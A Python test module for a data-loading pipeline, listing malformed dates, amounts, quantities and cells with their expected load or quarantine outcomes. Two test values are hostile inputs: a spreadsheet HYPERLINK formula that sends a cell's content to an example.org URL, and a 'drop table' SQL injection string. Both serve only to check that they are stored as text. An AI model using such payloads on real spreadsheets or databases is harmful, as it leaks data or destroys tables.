"""Dates, numbers and texts that are not what they should be."""

from __future__ import annotations

from tests.broken_inputs.case import Case, order, orders

GROUP = "Values"
NO_MOMENT = "is not a date and time (YYYY-MM-DD HH:MM:SS)"
SEPARATORS = "is not an amount: has a decimal comma or thousands separators"
CURRENCY = "is not an amount: has a currency sign or code"
LINES = "order_item_id,order_id,quantity\n"


def _case(name: str, what: str, content, **outcome) -> Case:
    return Case(name, GROUP, what, content, **outcome)


def _moment(name: str, what: str, text: str, moment: str) -> Case:
    return _case(name, what, orders(order(at=text)), loaded=1, holds=("ordered_at::varchar", [(moment,)]))


def _quarantined(name: str, what: str, content: str, reason: str) -> Case:
    return _case(name, what, content, quarantined=1, reasons=(reason,))


def _huge_cell() -> bytes:
    return orders(order(), order(2, "x" * 10_000_000), order(3)).encode()


CASES = (
    _moment("offset", "a time with an offset: converted to UTC", "2024-05-01T10:00:00+02:00", "2024-05-01 08:00:00"),
    _moment("offset_after_blank", "the same, after a blank", "2024-05-01 10:00:00 -0530", "2024-05-01 15:30:00"),
    _moment("zulu", "a time with Z: UTC", "2024-05-01T10:00:00Z", "2024-05-01 10:00:00"),
    _moment("zone_name", "a time with a zone's name", "2024-05-01 10:00:00 Europe/Berlin", "2024-05-01 08:00:00"),
    _moment("no_offset", "a time without an offset: UTC", "2024-05-01T10:00", "2024-05-01 10:00:00"),
    _moment(
        "nanoseconds", "nanoseconds: cut to microseconds", "2024-05-01 10:00:00.123456789", "2024-05-01 10:00:00.123456"
    ),
    _quarantined("zone_abbreviation", "a zone's abbreviation", orders(order(at="2024-05-01 10:00:00 CST")), NO_MOMENT),
    *(
        _quarantined(
            f"excel_serial_{number}",
            f"an Excel serial date ({text})",
            orders(order(at=text)),
            f"ordered_at: '{text}' {NO_MOMENT}: looks like an Excel serial date",
        )
        for number, text in enumerate(("45413", "45413.4166667"))
    ),
    *(
        _quarantined(f"date_{name}", f"a date as {text}", orders(order(at=text)), f"'{text}' {NO_MOMENT}{hint}")
        for name, text, hint in (
            ("day_first", "31.12.2023", ": has its day, month or a short year first"),
            ("slashes", "05/01/2024", ": has its day, month or a short year first"),
            ("short_year", "24-05-01", ": has its day, month or a short year first"),
            ("impossible", "2024-02-30", ""),
            ("words", "1 May 2024", ""),
            ("epoch", "1714557600", ""),
        )
    ),
    _quarantined("far_past", "a date before 1970", orders(order(at="1890-01-01")), "'1890-01-01' is below 1970-01-01"),
    _quarantined("future", "a date in the future", orders(order(at="2999-01-01")), "lies in the future"),
    *(
        _quarantined(f"amount_{name}", f"an amount as {text}", orders(order(amount=f'"{text}"')), f"'{text}' {reason}")
        for name, text, reason in (
            ("decimal_comma", "12,30", SEPARATORS),
            ("thousands", "1,234.50", SEPARATORS),
            ("german", "1.234,50", SEPARATORS),
            ("swiss", "1'234.50", SEPARATORS),
            ("blank_thousands", "1 234", SEPARATORS),
            ("dollar", "$12.30", CURRENCY),
            ("euro", "12.30 €", CURRENCY),
            ("code", "12.30 EUR", CURRENCY),
            ("infinite", "inf", "is not an amount"),
            ("overflow", "1e400", "is not an amount: too large to be stored"),
            ("twenty_digits", "99999999999999999999", "is not an amount: too large to be stored"),
            ("hexadecimal", "0x1F", "is not an amount"),
            ("underscore", "1_000", "is not an amount"),
            ("full_width", "１２", "is not an amount"),
            ("words", "twelve", "is not an amount"),
            ("percent", "12%", "is not an amount"),
        )
    ),
    _case(
        "decimal_commas_everywhere",
        "a file with semicolons and decimal commas",
        orders(order(), order(2)).replace(",", ";").replace("1.50", "1,50"),
        quarantined=2,
        reasons=(SEPARATORS,),
    ),
    _case(
        "missing_amount",
        "NaN, N/A, - or nothing as a number: no value",
        orders(order(1, amount="NaN"), order(2, amount="N/A"), order(3, amount="-"), order(4, amount="")),
        loaded=4,
        holds=("order_amount", [(None,)] * 4),
    ),
    _case(
        "small_exponent",
        "an amount in scientific notation",
        orders(order(amount="1.5e2")),
        loaded=1,
        holds=("order_amount::varchar", [("150.00",)]),
    ),
    _case(
        "quantities",
        "a negative quantity is a return and a large one is loaded; the gates judge it",
        LINES + "i1,1,-5\ni2,1,1000000000\n",
        file_name="order_items.csv",
        loaded=2,
        holds=("quantity::varchar", [("-5.000",), ("1000000000.000",)]),
    ),
    _case(
        "huge_quantity",
        "a quantity of 30 digits",
        LINES + f"i1,1,{'9' * 30}\n",
        file_name="order_items.csv",
        quarantined=1,
        reasons=("is not a number: too large to be stored",),
    ),
    _case(
        "mixed_types",
        "numbers, words and dates in one column",
        orders(order(1), order(2, amount="yes"), order(3, amount="2024-05-01"), order(4, amount="4")),
        loaded=2,
        quarantined=2,
        reasons=("'yes' is not an amount", "'2024-05-01' is not an amount"),
    ),
    _case(
        "leading_zeros",
        "ids with leading zeros: kept",
        orders(order(customer="007"), order(2, "7")),
        loaded=2,
        holds=("customer_id", [("007",), ("7",)]),
    ),
    _case(
        "formula",
        "a spreadsheet formula: kept as text",
        orders(order(customer='"=HYPERLINK(""http://example.org/?""&A1)"'), order(2, "@SUM(1)"), order(3, "+1-2")),
        loaded=3,
        holds=("customer_id", [('=HYPERLINK("http://example.org/?"&A1)',), ("@SUM(1)",), ("+1-2",)]),
    ),
    _case(
        "sql_in_a_value",
        "SQL in a value: kept as text",
        orders(order(customer="'); drop table raw.orders; --")),
        loaded=1,
        holds=("customer_id", [("'); drop table raw.orders; --",)]),
    ),
    _case(
        "huge_cell",
        "10 MB in one cell",
        _huge_cell,
        loaded=2,
        quarantined=1,
        reasons=("customer_id: 10000000 characters, more than 100000",),
    ),
    _case(
        "personal_value",
        "a bad value in a personal column: the reason does not show it",
        "customer_id,birth_date\nc,31.12.1980\n",
        file_name="customers.csv",
        quarantined=1,
        reasons=("birth_date: a value is not a date (YYYY-MM-DD): has its day, month or a short year first",),
    ),
)
